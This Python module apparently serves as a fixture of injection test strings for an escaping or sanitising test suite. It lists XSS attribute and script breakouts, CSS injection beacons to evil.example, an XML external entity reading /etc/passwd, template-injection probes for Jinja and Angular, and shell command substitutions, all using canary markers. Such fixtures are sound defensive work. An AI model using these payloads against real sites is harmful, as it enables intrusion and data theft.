"""Text that ends an attribute, a string, a rule or an entry, and text that templates would fill."""

from __future__ import annotations

from typing import Final

ATTRIBUTES: Final = {
    "quote": '" onmouseover="canary(1)" autofocus onfocus="canary(1)" x="',
    "single-quote": "' onmouseover='canary(1)' autofocus onfocus='canary(1)' x='",
    "quote-close": '"><img src=x onerror=canary(1)>',
    "single-quote-close": "'><img src=x onerror=canary(1)>",
    "quote-entity": "&quot;&gt;<img src=x onerror=canary(1)>",
    "quote-escaped": r"\"><img src=x onerror=canary(1)>",
    "backtick": "`` ` `` onerror=canary(1) <img alt=`` onerror=canary(1)>",
    "unquoted": "x onmouseover=canary(1) style=position:fixed;inset:0 ",
}
SCRIPTS: Final = {
    "json": '","x":"</script><img src=x onerror=canary(1)>',
    "json-escape": r"\u003c/script\u003e\u003cimg src=x onerror=canary(1)\u003e",
    "json-comment": "<!--<script>",
    "string": "';canary(1)//",
    "string-double": '";canary(1)//',
    "string-backslash": r"\';canary(1)//",
    "template-string": "`;${canary(1)};`",
    "event-return": "));canary(1)//",
}
STYLES: Final = {
    "style-rule": "}*{background:url(//evil.example/seen)}",
    "style-expression": "x:expression(canary(1))",
    "style-url": "url('javascript:canary(1)')",
    "style-attribute": '" style="position:fixed;inset:0;background:url(//evil.example/seen)',
}
DOCUMENTS: Final = {
    "xml-cdata": "]]><script xmlns='http://www.w3.org/1999/xhtml'>canary(1)</script>",
    "xml-entity": '<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
    "xml-entry": "</title></entry><entry><link href='javascript:canary(1)'/>",
    "xml-stylesheet": "<?xml-stylesheet href='javascript:canary(1)'?>",
}
TEMPLATES: Final = {
    "jinja": "{{ ''.__class__ }}{% raw %}<img src=x onerror=canary(1)>",
    "jinja-value": "{{ config.site_name }} {{ 7 * 7 }}",
    "jinja-block": '{% include "404.html" %}{# x #}',
    "jinja-safe": "{{ '<img src=x onerror=canary(1)>' | safe }}",
    "angular": "{{constructor.constructor('canary(1)')()}}",
    "underscore": "<%= canary(1) %><%- canary(1) %>",
    "format": "{0.__class__} {words} {name!r} %(title)s %s $title",
    "shell": "$(touch canary) `touch canary`; touch canary",
}
